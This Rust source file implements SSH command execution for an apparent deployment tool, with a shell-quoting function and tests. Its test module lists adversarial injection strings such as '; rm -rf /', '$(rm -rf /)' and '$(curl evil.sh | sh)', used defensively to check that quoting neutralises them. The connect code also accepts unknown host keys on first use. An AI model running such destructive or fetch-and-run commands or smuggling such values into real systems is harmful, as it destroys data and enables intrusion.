pub mod exec;

use std::path::Path;
use std::time::Duration;

use openssh::{ChildStdout, KnownHosts, RemoteChild, Session, SessionBuilder};
use thiserror::Error;
use tokio::io::{AsyncBufReadExt, AsyncWriteExt, BufReader, Lines};
use tracing::debug;

#[derive(Debug, Error)]
pub enum ExecError {
    #[error("failed to connect to {host}: {source}")]
    Connect { host: String, source: openssh::Error },

    #[error("command failed on {host} (exit {code}): {cmd}\nstderr: {stderr}")]
    NonZeroExit {
        host: String,
        cmd: String,
        code: i32,
        stderr: String,
    },

    #[error("transport error on {host}: {source}")]
    Transport { host: String, source: openssh::Error },

    #[error("io error on {host}: {source}")]
    Io { host: String, source: std::io::Error },
}

/// Quote a single value so it is inert as a POSIX shell word. Every value
/// that crosses the remote-shell boundary — paths, branch names, commit
/// hashes, domains, cron bodies — must be passed through this before it is
/// interpolated into a command string. Renderer-side validators (compose,
/// proxy) additionally constrain these values to safe character classes;
/// this function is the defense-in-depth layer that holds even if a
/// validator is ever missed.
pub fn quote(value: &str) -> String {
    if !value.is_empty()
        && value
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"@%_+=:,./-".contains(&b))
    {
        return value.to_string();
    }
    let mut out = String::with_capacity(value.len() + 2);
    out.push('\'');
    for ch in value.chars() {
        if ch == '\'' {
            out.push_str("'\\''");
        } else {
            out.push(ch);
        }
    }
    out.push('\'');
    out
}

pub struct SshSession {
    session: Session,
    host: String,
}

pub struct ExecStream<'s> {
    child: RemoteChild<'s>,
    lines: Lines<BufReader<ChildStdout<'s>>>,
}

impl<'s> ExecStream<'s> {
    /// Read the next line of output, or `None` on EOF.
    pub async fn next_line(&mut self) -> Result<Option<String>, ExecError> {
        self.lines
            .next_line()
            .await
            .map_err(|e| ExecError::Io {
                host: String::new(),
                source: e,
            })
    }

    pub async fn close(mut self) -> Result<std::process::ExitStatus, ExecError> {
        self.child.wait().await.map_err(|e| ExecError::Transport {
            host: String::new(),
            source: e,
        })
    }
}

impl SshSession {
    /// Connect with host-key policy accept-on-first-use: the control plane
    /// is the principal here, the remote host's fingerprint is treated as
    /// out-of-band trust rather than something a human verifies per host.
    pub async fn connect(
        user: &str,
        host: &str,
        port: Option<u16>,
        keyfile: Option<&Path>,
    ) -> Result<Self, ExecError> {
        debug!("connecting to {}@{}", user, host);

        let mut builder = SessionBuilder::default();
        builder.known_hosts_check(KnownHosts::Accept);
        builder.user(user.to_string());
        builder.connect_timeout(Duration::from_secs(15));

        if let Some(port) = port {
            builder.port(port);
        }
        if let Some(keyfile) = keyfile {
            builder.keyfile(keyfile);
        }

        let session = builder
            .connect(host)
            .await
            .map_err(|source| ExecError::Connect {
                host: host.to_string(),
                source,
            })?;

        Ok(Self {
            session,
            host: host.to_string(),
        })
    }

    pub fn host(&self) -> &str {
        &self.host
    }

    /// Run a command, never raising on non-zero exit.
    pub async fn run(&self, cmd: &str, timeout: Duration) -> Result<(String, String, i32), ExecError> {
        debug!(host = %self.host, %cmd, "run");
        let fut = self.session.command("bash").arg("-c").arg(cmd).output();
        let output = tokio::time::timeout(timeout, fut)
            .await
            .map_err(|_| ExecError::Transport {
                host: self.host.clone(),
                source: openssh::Error::Ssh(std::io::Error::new(
                    std::io::ErrorKind::TimedOut,
                    "command timed out",
                )),
            })?
            .map_err(|source| ExecError::Transport {
                host: self.host.clone(),
                source,
            })?;

        let stdout = String::from_utf8_lossy(&output.stdout).to_string();
        let stderr = String::from_utf8_lossy(&output.stderr).to_string();
        let code = output.status.code().unwrap_or(-1);
        Ok((stdout, stderr, code))
    }

    /// Run a command; fails with `ExecError::NonZeroExit` when the exit
    /// code is non-zero, carrying stderr and host identity.
    pub async fn run_checked(&self, cmd: &str, timeout: Duration) -> Result<String, ExecError> {
        let (stdout, stderr, code) = self.run(cmd, timeout).await?;
        if code != 0 {
            return Err(ExecError::NonZeroExit {
                host: self.host.clone(),
                cmd: cmd.to_string(),
                code,
                stderr,
            });
        }
        Ok(stdout)
    }

    /// Write `content` verbatim to a remote path via a quoted heredoc body.
    pub async fn upload_string(&self, content: &str, remote_path: &str) -> Result<(), ExecError> {
        let marker = "DOCKHAND_EOF_9c3f1a";
        let cmd = format!(
            "cat > {} << '{}'\n{}\n{}",
            quote(remote_path),
            marker,
            content,
            marker
        );
        self.run_checked(&cmd, Duration::from_secs(30)).await?;
        Ok(())
    }

    /// Upload a local file via the SSH session's SFTP-less `scp`-style copy.
    pub async fn upload(&self, local: &Path, remote: &str) -> Result<(), ExecError> {
        let content = tokio::fs::read(local).await.map_err(|e| ExecError::Io {
            host: self.host.clone(),
            source: e,
        })?;
        let text = String::from_utf8_lossy(&content).to_string();
        self.upload_string(&text, remote).await
    }

    pub async fn download(&self, remote: &str, local: &Path) -> Result<(), ExecError> {
        let content = self.read_remote_file(remote).await?;
        tokio::fs::write(local, content)
            .await
            .map_err(|e| ExecError::Io {
                host: self.host.clone(),
                source: e,
            })
    }

    pub async fn read_remote_file(&self, remote: &str) -> Result<String, ExecError> {
        self.run_checked(&format!("cat {}", quote(remote)), Duration::from_secs(30))
            .await
    }

    /// Open a long-running remote command as a streaming channel with a
    /// non-blocking line reader; the caller is responsible for closing it.
    /// The returned stream borrows this session and must not outlive it.
    pub async fn exec_stream(&self, cmd: &str) -> Result<ExecStream<'_>, ExecError> {
        debug!(host = %self.host, %cmd, "exec_stream");
        let mut child = self
            .session
            .command("bash")
            .arg("-c")
            .arg(cmd)
            .stdout(openssh::Stdio::piped())
            .spawn()
            .await
            .map_err(|source| ExecError::Transport {
                host: self.host.clone(),
                source,
            })?;

        let stdout = child.stdout().take().expect("stdout was piped");
        let lines = BufReader::new(stdout).lines();

        Ok(ExecStream { child, lines })
    }

    /// Connect, run a trivial echo, and compare — a lightweight liveness
    /// probe distinct from a full command execution.
    pub async fn test_connection(&self) -> bool {
        let probe = "dockhand-ping";
        match self.run(&format!("echo {}", quote(probe)), Duration::from_secs(10)).await {
            Ok((stdout, _, 0)) => stdout.trim() == probe,
            _ => false,
        }
    }

    /// Scoped acquisition: close the underlying transport. Callers that
    /// wrap a whole multi-step interaction in one session should always
    /// reach this on every exit path (success, error, or early return).
    pub async fn close(self) -> Result<(), ExecError> {
        self.session.close().await.map_err(|source| ExecError::Transport {
            host: self.host,
            source,
        })
    }
}

/// RAII guard that closes the session on drop via a detached task, for
/// call sites that can't easily thread an explicit `.close().await` through
/// every early-return path (the session is still closed; just not awaited
/// inline). Prefer explicit `.close()` where the call site can do it.
pub struct ScopedSession(Option<SshSession>);

impl ScopedSession {
    pub fn new(session: SshSession) -> Self {
        Self(Some(session))
    }

    pub fn get(&self) -> &SshSession {
        self.0.as_ref().expect("session taken")
    }
}

impl Drop for ScopedSession {
    fn drop(&mut self) {
        if let Some(session) = self.0.take() {
            tokio::spawn(async move {
                let _ = session.close().await;
            });
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Splits a single-quoted-POSIX-shell command line into words the way
    /// `bash -c` would, well enough to assert on word *count* — adequate
    /// for checking that an adversarial value never escapes its quoting
    /// into a second command.
    fn shell_word_count(cmd: &str) -> usize {
        let mut count = 0;
        let mut in_quotes = false;
        let mut in_word = false;
        for ch in cmd.chars() {
            match ch {
                '\'' => {
                    in_quotes = !in_quotes;
                    in_word = true;
                }
                c if c.is_whitespace() && !in_quotes => {
                    if in_word {
                        count += 1;
                    }
                    in_word = false;
                }
                _ => in_word = true,
            }
        }
        if in_word {
            count += 1;
        }
        count
    }

    const ADVERSARIAL: &[&str] = &[
        "; rm -rf /",
        "$(rm -rf /)",
        "`rm -rf /`",
        "a'; rm -rf /; echo '",
        "a' && rm -rf / && echo 'b",
        "$(curl evil.sh | sh)",
        "a\nrm -rf /",
        "--help; rm -rf /",
        "' OR 1=1 --",
        "",
    ];

    #[test]
    fn quote_neutralises_adversarial_values_in_a_representative_command() {
        // An adversarial value, once quoted, must occupy exactly the same
        // number of shell words as a harmless placeholder in the same
        // template — if it didn't, it split into multiple commands.
        let baseline = format!("cd {} && docker compose up -d", quote("safe-app"));
        let baseline_words = shell_word_count(&baseline);
        for value in ADVERSARIAL {
            let cmd = format!("cd {} && docker compose up -d", quote(value));
            assert_eq!(
                shell_word_count(&cmd),
                baseline_words,
                "value {:?} produced a different shell word count: {}",
                value,
                cmd
            );
        }
    }

    #[test]
    fn quote_escapes_embedded_single_quotes() {
        let quoted = quote("a'b");
        assert_eq!(quoted, "'a'\\''b'");
    }

    #[test]
    fn quote_passes_through_safe_identifiers_unquoted() {
        assert_eq!(quote("my-app_1.2"), "my-app_1.2");
        assert_eq!(quote("/opt/dockhand/apps/api"), "/opt/dockhand/apps/api");
    }

    #[test]
    fn quote_of_empty_string_is_a_single_empty_word() {
        assert_eq!(quote(""), "''");
    }

    #[test]
    fn exec_builders_keep_adversarial_values_as_one_word() {
        let safe = "safe-app";
        let mkdir_baseline = shell_word_count(&exec::mkdir_p(safe));
        let clone_baseline = shell_word_count(&exec::git_clone(safe, safe, safe));
        let rm_baseline = shell_word_count(&exec::rm_rf(safe));

        for value in ADVERSARIAL {
            let cmd = exec::mkdir_p(value);
            assert_eq!(shell_word_count(&cmd), mkdir_baseline, "mkdir_p leaked a word boundary for {:?}: {}", value, cmd);

            let cmd = exec::git_clone(value, value, value);
            assert_eq!(shell_word_count(&cmd), clone_baseline, "git_clone leaked a word boundary for {:?}: {}", value, cmd);

            let cmd = exec::rm_rf(value);
            assert_eq!(shell_word_count(&cmd), rm_baseline, "rm_rf leaked a word boundary for {:?}: {}", value, cmd);
        }
    }
}
